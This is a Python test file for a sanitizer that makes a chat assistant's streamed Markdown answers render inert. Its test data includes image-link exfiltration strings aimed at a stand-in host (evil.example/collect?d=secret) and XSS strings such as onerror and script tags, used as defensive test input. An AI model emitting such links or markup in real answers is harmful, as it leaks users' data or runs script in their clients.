"""The plain answer text is safe to render as Markdown, whole and as streamed: no image, no outside link other
than the answer's own records, no raw HTML (chat.markdown_guard). Checked by rendering the text the way a
careless client would: Markdown with raw HTML passed through."""

import random
import re

import markdown
import pytest

from chat.markdown_guard import HOLD_MAX, MarkdownHoldBack, markdown_guard
from tests.chat.factories import SECURITY_DIR

RECORD = "https://wiki.acme.test/status"
PAYLOADS = [line for name in ("markdown_exfil.txt", "xss_payloads.txt")
            for line in (SECURITY_DIR / name).read_text().splitlines() if line.strip()]
TRICKY = [
    "Seven steps [S1]. ![x](https://evil.example/a?d=1 \"t\") and [S2](https://evil.example/fake)",
    "[a [b [c]]](https://evil.example/(a(b)c)?d=1) and ![a [b [c]]](https://evil.example/(x(y)))",
    "<<b></b>img src=x onerror=alert(1)> and <im<i>g src=https://evil.example/p>",
    "![multi\nline](https://evil.example/p.png) and [text\nwith break](https://evil.example/)",
    "[ref]:\n  https://evil.example/p.png\n\n![y][ref] and ![ref]",
    "\\\\](https://evil.example/) escaped backslash, then a real closer",
    "<img\nsrc=https://evil.example/p.png> <!-- hidden <img src=https://evil.example/c> -->",
    f"Kept: [the status page]({RECORD}) and [titled](<{RECORD}> \"Status\"), not ![an image]({RECORD}).",
    "x<y and a < b, 3 > 2, [S1] [S2]: prose [with brackets] (and parens).",
]


def rendered(text: str) -> str:
    return markdown.markdown(text, extensions=["tables", "fenced_code", "sane_lists"])


def assert_inert(text: str) -> None:
    html = rendered(text).lower()
    for tag in ("<img", "<script", "<iframe", "<svg", "<details", "<object", "<embed", "<style"):
        assert tag not in html, (tag, text, html)
    tags = re.findall(r"<[^>]*>", html)
    assert not any(re.search(r"\son\w+\s*=|\ssrc=|\sstyle=", t) for t in tags), (text, html)
    assert all(href == RECORD for href in re.findall(r'href="([^"]*)"', html)), (text, html)


def streamed(text: str, seed: int, *, allowed=(RECORD,)) -> list[str]:
    rng, guard, pieces, i = random.Random(seed), MarkdownHoldBack(allowed), [], 0
    while i < len(text):
        step = rng.randint(1, 9)
        pieces.append(guard.feed(text[i:i + step]))
        i += step
    pieces.append(guard.flush())
    return pieces


@pytest.mark.parametrize("text", PAYLOADS + TRICKY)
def test_the_guarded_text_renders_inert(text):
    assert_inert(markdown_guard(text, [RECORD]))


@pytest.mark.parametrize("text", PAYLOADS + TRICKY)
def test_every_streamed_prefix_renders_inert(text):
    # Pieces are cleaned as they arrive, so hostile input may lose a little more than when cleaned whole
    # ("<<b>x</b>"); what was sent is clean either way, and the recorded answer is what was sent.
    for seed in range(3):
        pieces = streamed(text, seed)
        assert markdown_guard("".join(pieces), [RECORD]) == "".join(pieces), seed
        sent = ""
        for piece in pieces:
            sent += piece
            assert_inert(sent)


@pytest.mark.parametrize("text", TRICKY)
def test_ordinary_pieces_add_up_to_the_whole(text):
    for seed in range(15):
        assert "".join(streamed(text, seed)) == markdown_guard(text, [RECORD]), seed


def test_what_it_keeps_and_what_it_drops():
    assert markdown_guard("![status](https://evil.example/collect?d=secret)") == "![status]"
    assert markdown_guard("Ask [S1](https://evil.example/x) first [S2].") == "Ask [S1] first [S2]."
    assert markdown_guard("<script>alert(1)</script> done") == "alert(1) done"
    assert markdown_guard("[x]: https://evil.example/p") == "[x] : https://evil.example/p"
    kept = f"See [the page]({RECORD})."
    assert markdown_guard(kept, [RECORD]) == kept
    assert markdown_guard(kept) == "See [the page]."
    assert markdown_guard(f"![pic]({RECORD})", [RECORD]) == "![pic]"
    prose = "Latency stayed < 200 ms while x<y held; [S1] says so (see the table)."
    assert markdown_guard(prose) == prose


def test_an_opener_never_closed_is_escaped_rather_than_held_forever():
    guard = MarkdownHoldBack()
    head = guard.feed("Look ![x](https://evil.example/" + "a" * (HOLD_MAX + 10))
    assert head.startswith("Look ![x]\\(https://evil.example/")  # sent before the end, and inert
    rest = guard.feed("?d=secret) more") + guard.flush()
    assert_inert(head + rest)
    assert (head + rest).endswith(") more")


def test_prose_streams_without_waiting():
    guard = MarkdownHoldBack()
    assert guard.feed("The budget is 2.1M [S1]. It was") == "The budget is 2.1M [S1]. It was"
    assert guard.feed(" revised [S2]") == " revised [S2"  # a closing bracket waits for what follows it
    assert guard.feed(" in October.") == "] in October."
